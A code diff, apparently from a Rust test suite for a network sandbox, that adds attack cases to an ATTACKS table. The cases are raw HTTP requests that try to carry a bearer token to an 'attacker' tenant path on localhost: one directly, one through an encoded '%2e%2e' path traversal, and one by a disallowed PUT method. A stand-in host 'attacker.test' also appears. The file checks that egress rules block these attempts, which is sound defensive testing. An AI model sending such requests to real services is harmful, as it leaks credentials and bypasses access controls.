@@ -26,6 +26,16 @@ const PATH: Step =
 const QUERY: Step =
     step("say", &["{lavish}", "GET /?key=$LAVISH HTTP/1.1|Host: localhost:{lavish-port}||", "authorised"]);
 
+/// A server with many tenants, of which a rule names one, gets the secret there.
+const TENANT: Step = step(
+    "say",
+    &[
+        "{limited}",
+        "GET /public/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
+        "authorised",
+    ],
+);
+
 const fn said(id: &'static str, title: &'static str, words: &'static [&'static str], twin: Step) -> Attack {
     attack(11, id, title, step("say-on", words), twin).within(Garden::Network).namespaces()
 }
@@ -100,5 +110,35 @@ pub(super) static ATTACKS: &[Attack] = &[
             "attacker.test/real-value",
         ],
         PATH,
+    ),
+    said(
+        "egress.secret.tenant",
+        "carry the secret to another tenant of its own host",
+        &[
+            "{limited}",
+            "GET /attacker/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
+            "authorised",
+        ],
+        TENANT,
+    ),
+    said(
+        "egress.secret.tenant-climbing",
+        "carry it there by a path that climbs out",
+        &[
+            "{limited}",
+            "GET /public/%2e%2e/attacker/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
+            "authorised",
+        ],
+        TENANT,
+    ),
+    said(
+        "egress.secret.tenant-method",
+        "write it down at its own host by a method that no rule allows",
+        &[
+            "{limited}",
+            "PUT /public/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN|Content-Length: 0||",
+            "authorised",
+        ],
+        TENANT,
     ),
 ];
